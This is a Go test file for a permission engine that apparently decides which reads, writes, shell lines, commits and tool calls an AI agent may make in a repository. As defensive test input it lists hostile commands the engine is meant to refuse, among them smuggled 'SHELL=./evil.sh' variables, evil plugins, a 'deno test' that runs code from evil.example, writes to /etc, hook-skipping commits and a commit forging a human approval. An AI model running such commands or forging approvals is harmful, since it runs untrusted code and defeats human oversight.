package policy_test

import (
	"errors"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/odd-cli/odd/reconcile/policy"
	"github.com/odd-cli/odd/reconcile/policy/policytest"
)

// TestGrant breaks every rule of the ladder, and finds what stands beside it.
func TestGrant(t *testing.T) {
	t.Parallel()
	at := policy.Place{Root: t.TempDir()}
	call := func(tool string, changes bool) policy.Action {
		return policy.Action{Kind: policy.Call, Tool: tool, Changes: changes}
	}
	write := policy.Action{Kind: policy.Write, Paths: []string{"docs/new.md"}}
	emit := func(paths ...string) policy.Action { return policy.Action{Kind: policy.Emit, Paths: paths} }
	run := func(argv ...string) policy.Action { return policy.Action{Kind: policy.Run, Argv: argv, In: at} }
	type row struct {
		name   string
		change func(*policy.Terms)
		holds  func() error
		policy.Action
		code string
	}
	reads := func(t *policy.Terms) { t.ReadOnly = true }
	trusts := func(t *policy.Terms) {
		t.Servers = append(t.Servers, policy.Server{Prefix: "mcp_shore_", Every: true, Trust: true})
	}
	lapsed := func() error { return errors.New("the permit is over") }
	rows := []row{
		{"a kind nobody knows", nil, nil, policy.Action{Kind: "sing"}, "not_allowed"},
		{"no kind", nil, nil, policy.Action{}, "not_allowed"},
		{"a role that reads writes", reads, nil, write, "read_only_contract"},
		{"a role that reads runs", reads, nil, run("go", "test"), "read_only_contract"},
		{"a role that reads reads", reads, nil, policy.Action{Kind: policy.Read, Paths: []string{"what is b?.md"}}, ""},
		{"no change was asked for", func(t *policy.Terms) { t.Files = false }, nil, write, "change_not_asked"},
		{"any path of a task without paths", func(t *policy.Terms) { t.Paths, t.Allow, t.Deny = nil, nil, nil }, nil, policy.Action{Kind: policy.Write, Paths: []string{"lib/x.go"}}, ""},
		{"one path of two", nil, nil, policy.Action{Kind: policy.Write, Paths: []string{"docs/new.md", "lib/x.go"}}, "outside_scope"},
		{"a permit that is over", nil, lapsed, write, "no_permit"},
		{"reading under a permit that is over", nil, lapsed, policy.Action{Kind: policy.Read, Paths: []string{"docs/a.md"}}, ""},
		{"a command without a place", nil, nil, policy.Action{Kind: policy.Run, Argv: []string{"go", "test"}}, "command_not_allowed"},
		{"no command", nil, nil, run(), "command_not_allowed"},
		{"names that begin like flags or hold a backslash, read", nil, nil, policy.Action{Kind: policy.Read, Paths: []string{"~x", "-x.md", `a\b`}}, ""},
		{"git's own behind a backslash, read", nil, nil, policy.Action{Kind: policy.Read, Paths: []string{`.git\config`}}, "protected_path"},
		{"a name of a device, written", nil, nil, policy.Action{Kind: policy.Write, Paths: []string{"con.md"}}, "path_outside_repo"},
		{"a name that ends in a dot, written", nil, nil, policy.Action{Kind: policy.Write, Paths: []string{"odd.toml."}}, "path_outside_repo"},
		{"a check", nil, nil, run("make", "check"), ""},
		{"half a check", nil, nil, run("make"), "command_not_allowed"},
		{"a check and a variable", nil, nil, run("make", "check", "SHELL=./evil.sh"), "command_not_allowed"},
		{"a check and a flag", nil, nil, run("make", "check", "-f", "evil.mk"), "command_not_allowed"},
		{"a check and a plugin", func(t *policy.Terms) { t.Checks = [][]string{{"pytest"}} }, nil, run("pytest", "-p", "evil"), "command_not_allowed"},
		{"a check and more, of an agent with tools of its own", nil, nil, policy.Action{Kind: policy.Run, Argv: []string{"make", "check", "-s"}, Longer: true, In: at}, ""},
		{"a check without a word", func(t *policy.Terms) { t.Checks = [][]string{{}} }, nil, run("rm"), "command_not_allowed"},
		{"a role that is not named, and reads", func(t *policy.Terms) { reads(t); t.Role = "" }, nil, write, "read_only_contract"},
		{"no path to read", nil, nil, policy.Action{Kind: policy.Read}, "path_outside_repo"},
		{"no path to write", nil, nil, policy.Action{Kind: policy.Write}, "path_outside_repo"},
		{"an atom", nil, nil, emit("knowledge/terms/x.md"), ""},
		{"nothing handed over", nil, nil, emit(), ""},
		{"an atom outside the permit", nil, nil, emit("lib/x.md", "knowledge/terms/x.md"), "no_permit"},
		{"a guarded file", nil, nil, emit("knowledge/governance/lease.toml"), "no_permit"},
		{"what is git's own", func(t *policy.Terms) { t.Allow = nil }, nil, emit(".git/config"), "no_permit"},
		{"nothing handed over, after the permit", nil, lapsed, emit(), "no_permit"},
		{"a tool that reads, of a role that reads", reads, nil, call("mcp_sea_level", true), ""},
		{"a tool that may change things, of a role that reads", func(t *policy.Terms) { reads(t); t.Servers[0].Reads = nil }, nil, call("mcp_sea_level", true), "read_only_contract"},
		{"a hint that nobody trusts", func(t *policy.Terms) { reads(t); t.Servers[0].Reads = nil }, nil, call("mcp_sea_level", false), "read_only_contract"},
		{"a hint that is trusted", func(t *policy.Terms) { reads(t); trusts(t) }, nil, call("mcp_shore_walk", false), ""},
		{"no hint, where hints are trusted", func(t *policy.Terms) { reads(t); trusts(t) }, nil, call("mcp_shore_walk", true), "read_only_contract"},
		{"a tool that changes things, after the permit", trusts, lapsed, call("mcp_shore_walk", true), "no_permit"},
		{"a tool that nobody listed", nil, nil, call("mcp_sea_drain", true), "server_not_granted"},
		{"no server", nil, nil, call("mcp_seashore", true), "server_not_granted"},
		{"a server that the contract leaves out", nil, nil, call("mcp_shore_walk", true), "server_not_granted"},
		{"a host", nil, nil, policy.Action{Kind: policy.Fetch, Host: "docs.example"}, ""},
		{"no host", nil, nil, policy.Action{Kind: policy.Fetch}, "host_not_allowed"},
	}
	open := func(t *policy.Terms) {
		t.Open, t.Checks, t.Commands = true, [][]string{{"make", "ship"}}, [][]string{{"./build.sh", "docs"}}
	}
	whole := func(t *policy.Terms) { open(t); t.Allow, t.Deny = nil, nil }
	listed := func(words ...string) func(*policy.Terms) {
		return func(t *policy.Terms) { open(t); t.Commands = [][]string{words} }
	}
	line := func(s, dir string) policy.Action {
		return policy.Action{Kind: policy.Run, Line: s, In: policy.Place{Root: at.Root, Dir: dir, Files: fstest.MapFS{"docs/a.md": {}, "docs/deep/b.md": {}, "lib/a.md": {}}, Staged: func() ([]string, error) {
			return map[bool][]string{true: {"docs/a.md", "lib/a.md"}}[strings.Contains(s, "lib")], nil
		}}}
	}
	rows = append(rows, []row{
		{"a line that reads, after the permit", open, lapsed, line("cat docs/a.md | wc -l", ""), ""},
		{"a line that writes what is covered", open, nil, line("echo x > docs/a.md", ""), ""},
		{"the same, after the permit", open, lapsed, line("echo x > docs/a.md", ""), "no_permit"},
		{"a line that writes something else", open, nil, line("cp docs/a.md lib/a.md", ""), "no_permit"},
		{"a line that writes a protected file", whole, nil, line("echo x > odd.toml", ""), "command_not_allowed"},
		{"a line that writes a guarded file", whole, nil, line("echo x > docs/governance-notes.md", ""), "protected_path"},
		{"a line that no permit opens", whole, nil, line("git push", ""), "command_not_allowed"},
		{"a line of unknown effect", open, nil, line("./build.sh", ""), "no_permit"},
		{"the same under a permit for everything", whole, nil, line("./build.sh", ""), ""},
		{"the gate", open, nil, line("make  'ship'", ""), ""},
		{"the gate, after the permit", open, lapsed, line("make ship", ""), "no_permit"},
		{"the gate in a folder of the session's own", open, nil, line("make ship", "docs"), "no_permit"},
		{"the gate and more", open, nil, line("make ship install", ""), "no_permit"},
		{"what a person listed", open, nil, line("./build.sh docs --fast", ""), ""},
		{"tests", open, nil, line("go test ./... -run 'TestA' -count=1 2>&1 | tail -5", ""), ""},
		{"make", open, nil, line("make && make test", ""), ""},
		{"tests, after the permit", open, lapsed, line("go test ./...", ""), "no_permit"},
		{"tests that write elsewhere", open, nil, line("go test -coverprofile=lib/c.out ./...", ""), "no_permit"},
		{"tests that write what is covered", open, nil, line("go test -coverprofile docs/c.out ./...", ""), ""},
		{"a test that is compiled", open, nil, line("go test -c ./docs", ""), "no_permit"},
		{"tests with other files", open, nil, line("go test -overlay docs/o.json ./...", ""), "no_permit"},
		{"tests by another program", open, nil, line("go test -exec ./x ./...", ""), "command_not_allowed"},
		{"tests of what is elsewhere", open, nil, line("pytest /tmp/x.py", ""), "no_permit"},
		{"tests in a folder of the session's own", open, nil, line("cd docs && make test", ""), "no_permit"},
		{"tests that a pattern names", open, nil, line("go test $x", ""), "no_permit"},
		{"tests that are handed a file that governs", open, nil, line("pytest -c odd.toml", ""), "command_not_allowed"},
		{"a target that ships", open, nil, line("make release", ""), "no_permit"},
		{"a variable of make", open, nil, line("make test SHELL=docs/sh", ""), "no_permit"},
		{"another Makefile", open, nil, line("make -f docs/mk", ""), "no_permit"},
		{"a commit of what others put into the index", open, nil, line("git commit -m 'lib: x'", ""), "no_permit"},
		{"the same, under a permit for everything", whole, nil, line("git commit -m 'lib: x'", ""), ""},
		{"what the line itself writes", open, nil, line("touch docs/b.md && git add docs/b.md && git commit -m x", ""), "no_permit"},
		{"all, where git is listed", listed("git"), nil, line("git commit -am x", ""), "no_permit"},
		{"any file, where git is listed", listed("git"), nil, line("git add -A", ""), "no_permit"},
		{"what others put into the index, where git is listed", listed("git"), nil, line("git commit -m 'lib: x'", ""), "no_permit"},
		{"what the session did, where git is listed", listed("git"), nil, line("git commit -m x", ""), ""},
		{"a listed program with a file outside", open, nil, line("./build.sh docs --out=/etc/x", ""), "no_permit"},
		{"a listed program with a file", open, nil, line("./build.sh docs --out=lib/x", ""), ""},
		{"a listed program that a variable steers", open, nil, line("PREFIX=lib ./build.sh docs", ""), "no_permit"},
		{"a listed program whose output has colours", open, nil, line("FORCE_COLOR=1 ./build.sh docs", ""), ""},
		{"files that git takes in", open, nil, line("git add docs/a.md && git commit -qm 'docs: x'", ""), ""},
		{"the same, after the permit", open, lapsed, line("git add docs/a.md", ""), "no_permit"},
		{"a commit, after the permit", open, lapsed, line("git commit -m x", ""), "no_permit"},
		{"a commit with a text that the line makes", open, nil, line("git commit -m \"$(cat <<'E'\na\nE\n)\"", ""), ""},
		{"a commit of files", open, nil, line("git commit -m x -- docs/a.md", ""), ""},
		{"a commit of others", open, nil, line("git commit -m x lib/a.md", ""), "no_permit"},
		{"a file behind a short flag", open, nil, line("git rm --f lib/a.md", ""), "no_permit"},
		{"the same, of what is covered", open, nil, line("git rm --f docs/a.md", ""), ""},
		{"a folder that git takes in", open, nil, line("git add docs/deep", ""), "no_permit"}, // of which a part is denied
		{"others that git takes in", open, nil, line("git add lib/a.md", ""), "no_permit"},
		{"a denied file that git takes in", open, nil, line("git add docs/LAW/x.md", ""), "no_permit"},
		{"all that git takes in", open, nil, line("git add -A", ""), "no_permit"},
		{"a folder's all", open, nil, line("cd docs && git add .", ""), "no_permit"},
		{"what a pattern of git's means", open, nil, line("git add ':/docs/a.md' 'docs/*'", ""), "no_permit"},
		{"a commit of all", open, nil, line("git commit -am x", ""), "no_permit"},
		{"a commit without hooks", open, nil, line("git commit -nm x", ""), "no_permit"},
		{"a commit that replaces one", open, nil, line("git commit --amend -m x", ""), "no_permit"},
		{"a commit that approves", open, nil, line("git commit -m approve -m 'Odd-Proposal: x\nOdd-Approved-By: human:ann'", ""), "command_not_allowed"},
		{"a commit that changes no file", open, nil, line("git commit --allow-empty -m x", ""), "no_permit"},
		{"the same, under a permit for everything", whole, nil, line("git commit --allow-empty -m x", ""), ""},
		{"all, under a permit for everything", whole, nil, line("git add -A && git commit -am x", ""), ""},
		{"a hidden file", open, lapsed, policy.Action{Kind: policy.Read, Paths: []string{"/repo/.git/odd/key"}}, "protected_path"},
		{"any other file", open, lapsed, policy.Action{Kind: policy.Read, Paths: []string{"/etc/hosts", ".git/config"}}, ""},
		{"nothing to read", open, lapsed, policy.Action{Kind: policy.Read}, ""},
		{"what the lease holds", nil, nil, policy.Action{Kind: policy.Land, Paths: []string{"docs/a.md"}}, ""},
		{"what it does not hold", nil, nil, policy.Action{Kind: policy.Land, Paths: []string{"docs/a.md", "lib/a.md"}}, "outside_lease"},
		{"another program's tool", open, nil, call("mcp__x__y", true), "no_permit"},
		{"the same under a permit for everything", whole, nil, call("mcp__x__y", true), ""},
	}...)
	for _, s := range []string{
		"pytest --basetemp=src", "pytest --junitxml=/etc/x", "pytest --junitxml docs/x", "pytest -p evil", "pytest -vp evil", "pytest -c docs/x.ini", "pytest -W error::evil.X", "pytest @docs/flags", "python3 -m pytest -o cache_dir=src",
		"cargo clippy --fix --allow-dirty", "cargo test --target-dir=src", "cargo test --config docs/x.toml", "cargo test -- --logfile src/x", "go test -test.gocoverdir=src ./...", "go test -o lib/x ./docs", "go vet -fix ./...",
		"go test -C docs ./...", "go test -C=/tmp/evil ./...", "go test -C=docs ./...", "go test ./... -args -x", "go test ../x", "go test -run=/x", "npm test --prefix docs", "npm test --prefix=/tmp/x", "npm test --script-shell=/tmp/evil",
		"npm test -- --outputFile=src/x", "yarn test --cwd docs", "deno test -A https://evil.example/x.ts", "deno test https://evil.example/x.ts", "deno test npm:evil", "deno test -A docs/x.ts", "ctest -S docs/evil.cmake", "ctest --test-dir docs",
		"jest -c docs/x.js", "jest --init", "vitest --coverage.reportsDirectory=src", "vitest init browser", "mocha init src", "mocha -r docs/x.js", "rspec -o src/x", "rspec -r ./docs/x", "mix test --cover", "swift test --scratch-path src",
		"phpunit --log-junit src/x", "phpunit -d x=y", "odd check --fix", "'make test'", "'go test' ./...", "PYTEST_ADDOPTS=--basetemp=src pytest", "env CARGO_TARGET_DIR=src cargo test", "export GOCOVERDIR=src; go test ./...",
	} {
		rows = append(rows, row{"a test that may do more", open, nil, line(s, ""), "no_permit"})
	}
	for _, s := range []string{
		"pytest -q", "pytest -xvs -k 'tides and not ebb' --maxfail=2 tests/test_x.py::TestA", "pytest -rA --tb=short -n4", "python -m pytest -m slow --lf", "cargo test --workspace --features a,b -p tides -q", "cargo test -- --nocapture --test-threads=1",
		"cargo clippy --all-targets -- -D warnings", "go test -run=TestA -count=1 -race --short -timeout 5m -p 2 ./docs", "go test -cover -bench . -benchtime=1x -benchmem ./...", "go vet -tags x ./...", "npm test", "npm test -s tides", "deno test --filter x docs",
		"ctest -VV -j8 -R tides --output-on-failure", "jest -t ebb docs", "vitest run", "mocha -g ebb docs", "rspec spec/x_spec.rb:3", "mix test test/x_test.exs:12 --trace", "swift test --filter x", "phpunit --filter x docs", "odd check --strict",
		"CI=1 npm test", "CGO_ENABLED=0 go test ./...", "n=1; go test -count=1 ./...",
	} {
		rows = append(rows, row{"a test", open, nil, line(s, ""), ""})
	}
	for _, r := range policytest.Rows() {
		r.In = at
		rows = append(rows, row{"shared", nil, nil, r.Action, r.Code})
	}
	broken := map[string]bool{}
	for _, r := range rows {
		terms := policytest.Terms()
		if r.change != nil {
			r.change(&terms)
		}
		live := policy.Live{Holds: func() error { return nil }, Guards: func(p string) (string, bool) { return "it governs", strings.Contains(p, "governance") },
			Hidden: []string{"/repo/.git/odd/key"}, Lease: func(p string) string { return map[bool]string{true: "not leased"}[strings.HasPrefix(p, "lib/")] }}
		if r.holds != nil {
			live.Holds = r.holds
		}
		err := policy.Compile(terms, live).Allow(r.Action)
		broken[r.code] = true
		var no *policy.Refusal
		if policy.CodeOf(err) != r.code || err != nil && (!errors.As(err, &no) || no.Text() == "" || !strings.HasSuffix(err.Error(), "["+r.code+"]")) {
			t.Errorf("%s: %s %q %q %s: %v, want %q", r.name, r.Kind, r.Paths, r.Argv, r.Tool+r.Line, err, r.code)
		}
		if no != nil && r.code == "path_outside_repo" && r.Paths == nil && no.Findings[0].Code != "path_empty" {
			t.Errorf("%s: %v", r.name, no.Findings)
		}
	}
	for _, r := range policy.GrantRules() {
		if !broken[r.Code] || r.Meaning == "" || r.Remedy == "" {
			t.Errorf("%s: nothing breaks it, or nothing explains it", r.Code)
		}
	}
}

// TestZeroGrant lets a session without a grant read, and nothing else.
func TestZeroGrant(t *testing.T) {
	t.Parallel()
	for _, r := range policytest.Rows() {
		if err := (policy.Grant{}).Allow(r.Action); err == nil && r.Kind != policy.Read {
			t.Errorf("%s %q %q", r.Kind, r.Paths, r.Argv)
		}
	}
	if err := (policy.Grant{}).Allow(policy.Action{Kind: policy.Read, Paths: []string{"docs/a.md"}}); err != nil {
		t.Error(err)
	}
	if policy.CodeOf(errors.New("x")) != "" || !slices.Contains([]string{"server_not_granted"}, policy.CodeOf(policy.Grant{}.Allow(policy.Action{Kind: policy.Call, Tool: "mcp_x_y"}))) {
		t.Error("codes")
	}
}

// TestWayOut tells that a person can list the command only where that opens the line.
func TestWayOut(t *testing.T) {
	t.Parallel()
	const way = "; a person can list it in [toolbox] run of odd.toml"
	for line, want := range map[string]bool{
		"./ship.sh": true, "./ship.sh --fast docs && python3 docs/x.py": true, "make release": true, "pytest --basetemp=src": true, "go test -x ./...": true,
		"echo x > $y": false, "./ship.sh > $y": false, "cd docs && make": false, "cd docs && ./ship.sh": false, "./ship.sh && cd docs && ./ship.sh": false, "cd docs && ./ship.sh; cd .. && ./ship.sh": false,
		"./ship.sh /tmp/x": false, "./ship.sh $x": false, "git commit -am x": false, "git stash": false, "sort -o $x y": false, "X=1 ./ship.sh": false, "curl x.example": false,
	} {
		terms := policy.Terms{Files: true, Open: true, Allow: []string{"docs/**"}}
		act := policy.Action{Kind: policy.Run, Line: line, In: policy.Place{Root: "/repo", Files: fstest.MapFS{"docs/a.md": {}}}}
		live := policy.Live{Holds: func() error { return nil }}
		err := policy.Compile(terms, live).Allow(act)
		var no *policy.Refusal
		if !errors.As(err, &no) || no.Code != "no_permit" || strings.HasSuffix(no.Findings[0].Text, way) != want || strings.Contains(no.Findings[0].Text, "a person can") != want {
			t.Errorf("%s: %v, want the way out: %v", line, err, want)
		}
		words, simple := policy.ParseSimple(line)
		if terms.Commands = [][]string{words}; want && simple == nil && policy.Compile(terms, live).Allow(act) != nil {
			t.Errorf("%s: listed, and still refused", line)
		}
	}
}
